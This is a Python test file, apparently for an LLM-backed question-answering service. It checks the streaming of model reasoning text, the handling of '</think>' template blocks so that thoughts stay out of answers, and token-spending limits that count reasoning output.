def _stream(**how: Any) -> tuple[ThinkingStream, list[Thinking], asyncio.Event]:
    told: list[Thinking] = []
    opened = asyncio.Event()

    def publish(payload: Payload) -> None:
        assert isinstance(payload, Thinking)
        told.append(payload)

    return ThinkingStream(publish, opened, Guarding(), **how), told, opened


def test_thoughts_come_in_pieces_of_some_words() -> None:
    stream, told, opened = _stream()
    opened.set()
    call = stream.begin()
    text = " ".join(f"word{at}" for at in range(20_000))
    for piece in words(text):
        call.feed(piece, "raw")
    call.end()
    assert "".join(event.text for event in told) == text
    assert len(told) < 20_000 / 4
    assert all(" " in event.text.strip() for event in told)


def test_thoughts_without_spaces_come_in_pieces_as_well() -> None:
    stream, told, opened = _stream()
    opened.set()
    call = stream.begin()
    for char in "思" * 1000:
        call.feed(char, "raw")
    call.end()
    assert "".join(event.text for event in told) == "思" * 1000
    assert len(told) == 13


def test_thoughts_wait_for_the_gate_in_order_and_only_so_many_of_them() -> None:
    stream, told, opened = _stream()
    call = stream.begin()
    for at in range(20_000):
        call.feed(f" thought {at}", "raw")
    assert told == []
    opened.set()
    stream.release()
    assert told[0].text.startswith("thought 0 ")
    assert told[-1].kind == "derived"
    assert HELD_BYTES <= sum(len(event.text) for event in told[:-1]) < HELD_BYTES + 100
    call.feed(" and now.", "raw")
    call.end()
    assert told[-1].text.endswith("and now.")


def test_what_a_dropped_call_has_thought_is_not_told() -> None:
    stream, told, opened = _stream()
    dropped, kept = stream.begin(), stream.begin()
    dropped.feed(f"{THOUGHT} ", "raw")
    kept.feed("something else entirely, which is kept and told", "raw")
    kept.pause()
    dropped.drop()
    opened.set()
    stream.release()
    kept.end()
    assert "".join(event.text for event in told) == "something else entirely, which is kept and told"


def test_a_run_tells_only_so_much_of_its_thoughts() -> None:
    stream, told, opened = _stream()
    opened.set()
    call = stream.begin()
    for at in range(60_000):
        call.feed(f" thought {at}", "raw")
    call.end()
    assert MOST_BYTES - 200 < sum(len(event.text) for event in told) < MOST_BYTES + 200
    assert [event.kind for event in told].count("derived") == 1
    assert told[-1].kind == "derived"


def test_thoughts_nobody_wants_are_signs_of_life_and_no_more() -> None:
    stream, told, opened = _stream(wanted=False)
    opened.set()
    call = stream.begin()
    call.feed(THOUGHT, "raw")
    call.end()
    assert told == []
    assert stream.heard == 1


def test_halves_of_emoji_are_put_together_or_replaced() -> None:
    stream, told, opened = _stream()
    opened.set()
    call = stream.begin()
    for piece in ("a \ud83d", "\ude00 b \ud83d"):
        call.feed(piece, "raw")
    call.end()
    assert "".join(event.text for event in told).startswith("a 😀 b")
    json.dumps(told[0].text).encode()


# --- calls tagged `thinking`


@pytest.mark.parametrize("streamed", [True, False])
async def test_of_a_planners_call_the_thoughts_are_heard_with_step_and_branch(streamed: bool) -> None:
    stream, told, opened = _stream()
    opened.set()
    model = PonderingModel(
        shape=lambda text: {"additional_kwargs": {"reasoning_content": text}}, thoughts=PIECES, answer="1. A plan"
    )
    metadata = {"step": 2, "branch": "b"}
    config: Any = {"callbacks": [ThinkingHandler(stream)], "tags": [THINKING_TAG], "metadata": metadata}
    chain = model | TextParser()
    plan = (
        "".join([text async for text in chain.astream("Plan", config)])
        if streamed
        else await chain.ainvoke("Plan", config)
    )
    assert plan == "1. A plan"
    assert "".join(event.text for event in told) == THOUGHT
    assert {(event.kind, event.step, event.branch) for event in told} == {("raw", 2, "b")}


async def test_other_calls_are_not_heard() -> None:
    stream, told, opened = _stream()
    opened.set()
    model = PonderingModel(
        shape=lambda text: {"additional_kwargs": {"reasoning": text}}, thoughts=PIECES, answer="SAFE"
    )
    assert await (model | TextParser()).ainvoke("?", {"callbacks": [ThinkingHandler(stream)]}) == "SAFE"
    assert told == []
    assert stream.heard == 0


# --- templates that open the block in the prompt


def test_a_closing_tag_alone_on_its_line_ends_what_the_prompt_began() -> None:
    text = "The row names her.\n</think>\n\nGreta Holm."
    assert said(text) == "Greta Holm."
    assert read(text, inside=True) == read(*one_by_one(text), inside=True) == ("Greta Holm.", "The row names her.\n")
    assert read("No block at all.", inside=True) == ("No block at all.", "No block at all.")
    assert read("Cut off in", inside=True, cut=True) == ("", "Cut off in")
    assert read("<think>a</think>B", inside=True) == ("B", "a")


def test_a_model_whose_template_begins_its_thoughts_is_known_after_its_first_message(
    provider: Provider, serve: Callable[..., Live], with_model: Callable[..., Any]
) -> None:
    def script(body: dict[str, Any]) -> Reply:
        if task_of(body) == "sufficient":
            return Reply("So they are.\n</think>\n\nSUFFICIENT")
        text = ANSWER.replace("{row}", row_of(body, "Greta Holm"))
        return Reply(pieces=words(text if closed else f"{THOUGHT}\n</think>\n\n{text}"))

    closed = False
    _, at = provider(script)
    server = serve(**with_model(at.url, sufficient=True, sufficiency_seconds=10), manners=Manners())
    first = ask(server, include_thinking=True)
    assert "</think>" not in str(first)
    second = ask(server, include_thinking=True)
    assert thought_in(second) == THOUGHT
    assert not marked([event for event in second if event["event_type"] != "thinking"])
    assert payloads(second, "final_answer")[0]["outcome"] == "answered"
    closed = True
    third = ask(server)
    assert payloads(third, "final_answer")[0]["answer"] == payloads(second, "final_answer")[0]["answer"]


@pytest.mark.parametrize("opening", ["Sure. <think>{thought}</think> {text}", "They tell. </think> {text}"])
def test_a_short_beginning_brings_no_thought_into_an_answer(
    opening: str, provider: Provider, serve: Callable[..., Live], with_model: Callable[..., Any]
) -> None:
    def script(body: dict[str, Any]) -> Reply:
        text = ANSWER.replace("{row}", row_of(body, "Greta Holm"))
        return Reply(pieces=words(opening.format(thought=THOUGHT, text=text)))

    _, at = provider(script)
    events = ask(serve(**with_model(at.url), manners=Manners()), include_thinking=True)
    final = payloads(events, "final_answer")[0]
    assert not marked([event for event in events if event["event_type"] != "thinking"])
    assert "They tell" not in tokens_of(events) + final["answer"]
    assert final["outcome"] == "answered"


def test_a_model_that_did_not_begin_inside_a_block_is_not_doubted_again(
    provider: Provider, serve: Callable[..., Live], with_model: Callable[..., Any]
) -> None:
    _, at = provider(lambda body: Reply(ANSWER.replace("{row}", row_of(body, "Greta Holm"))))
    server = serve(**with_model(at.url), manners=Manners())
    first, second = (payloads(ask(server), "token") for _ in range(2))
    assert first[0]["token"].startswith("The lighthouse was built")
    assert second[0]["token"] == "The"
    assert "".join(token["token"] for token in first) == "".join(token["token"] for token in second)


async def test_the_embedded_model_is_known_not_to_think() -> None:
    heard: list[str] = []

    class _Hearing(AsyncCallbackHandler):
        async def on_chat_model_start(self, *args: Any, metadata: dict[str, Any], **kwargs: Any) -> None:
            heard.append(f"{metadata['ls_provider']}:{metadata['ls_model_name']}")

    await ExtractiveChatModel().ainvoke("[1.1] Greta Holm built it.\n\nQuestion: Who?", {"callbacks": [_Hearing()]})
    assert Manners().begins_inside(heard[0]) is False
    assert Manners().begins_inside("None:None") is False
    assert Manners().begins_inside("openai:gpt-4o") is None


# --- tokens


class _Told(BaseChatModel):
    """Says of its tokens what it is told to say."""

    total: int

    @property
    def _llm_type(self) -> str:
        return "told"

    def _generate(self, messages: list[BaseMessage], *args: Any, **kwargs: Any) -> ChatResult:
        usage = UsageMetadata(input_tokens=0, output_tokens=self.total, total_tokens=self.total)
        return ChatResult(generations=[ChatGeneration(message=AIMessage("Yes.", usage_metadata=usage))])


@pytest.mark.parametrize(
    "shape",
    [
        lambda text: {"additional_kwargs": {"reasoning_content": text}},
        lambda text: {"content": [{"type": "thinking", "thinking": text, "signature": "s" * 4000}]},
        lambda text: {"content": [{"type": "reasoning", "summary": [{"type": "summary_text", "text": text}]}]},
        lambda text: {"content": text},
    ],
)
async def test_what_a_model_thinks_is_spent(shape: Callable[[str], dict[str, Any]]) -> None:
    spending = Spending(Allowance(tokens=3000))
    model = PonderingModel(shape=shape, thoughts=["hm hm hm hm hm hm, so"] * 400, answer="Yes.")
    spent: list[bool] = []
    async for _ in model.astream("Who?", {"callbacks": [SpendingHandler(spending)]}):
        spent.append(spending.out_of_tokens.is_set())
    assert 1900 < spending.tokens < 2100
    assert not spending.out_of_tokens.is_set()
    async for _ in model.astream("Who?", {"callbacks": [SpendingHandler(spending)]}):
        spent.append(spending.out_of_tokens.is_set())
    assert spent.index(True) < 700


async def test_tokens_that_a_provider_reports_stop_the_calls_under_way_and_not_the_complete_one() -> None:
    spending = Spending(Allowance(tokens=3000))
    told: Any = {"callbacks": [SpendingHandler(spending)]}
    await _Told(total=2000).ainvoke("Who?", told)
    assert (spending.tokens, spending.out_of_tokens.is_set()) == (2000, False)
    other = PonderingModel(shape=lambda text: {"content": text}, thoughts=["hm"] * 3, answer="Yes.")
    stream = other.astream("Who?", told)
    await anext(stream)
    await _Told(total=2000).ainvoke("Who?", told)
    assert spending.out_of_tokens.is_set()
    await cast(AsyncGenerator[Any], stream).aclose()
    alone = Spending(Allowance(tokens=3000))
    await _Told(total=4000).ainvoke("Who?", {"callbacks": [SpendingHandler(alone)]})
    assert (alone.lacks(), alone.out_of_tokens.is_set()) == ("tokens", False)
